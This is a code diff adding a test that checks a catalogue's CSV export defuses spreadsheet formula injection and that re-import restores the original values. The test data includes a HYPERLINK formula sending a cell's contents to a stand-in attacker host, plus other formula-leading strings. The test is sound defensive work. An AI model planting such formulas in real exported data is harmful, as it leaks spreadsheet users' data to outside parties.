@@ -1,4 +1,6 @@
+import csv
 import datetime
+import io
 import tempfile
 from io import StringIO
 from pathlib import Path
@@ -79,6 +81,30 @@ class RoundTripTestCase(BaseTestCase):
     def test_it_writes_dates_as_precisely_as_they_are_known(self):
         text = export("--format", "csv")
         self.assertIn(",2020,en,https://example.org/a?b=1,draft,members,2024-05-06,", text)
+
+    def test_it_neutralises_formulas_and_reimports_them_unchanged(self):
+        hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+        Resource.objects.filter(key="demo:3").update(
+            title=hostile, summary="+1 and more", body="@SUM(A1)\rline\r\nnext"
+        )
+        Resource.objects.filter(key="demo:4").update(title="-5 reasons", summary="'=quoted")
+        text = export("--format", "csv")
+        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+        cells = [c for row in rows for c in row]
+        self.assertFalse([c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")])
+        self.assertIn("'" + hostile, cells)
+        path = Path(self.tmp.name) / "catalogue.csv"
+        path.write_text(text, encoding="utf-8", newline="")
+        empty_catalogue()
+        call_command("import", str(path), stdout=StringIO())
+        three = Resource.objects.get(key="demo:3")
+        self.assertEqual(
+            (three.title, three.summary, three.body),
+            (hostile, "+1 and more", "@SUM(A1)\rline\nnext"),
+        )
+        four = Resource.objects.get(key="demo:4")
+        self.assertEqual((four.title, four.summary), ("-5 reasons", "'=quoted"))
+        self.assertEqual(export("--format", "csv"), text.replace("\r\n", "\n"))
 
     def test_it_exports_to_a_file(self):
         path = Path(self.tmp.name) / "out.csv"
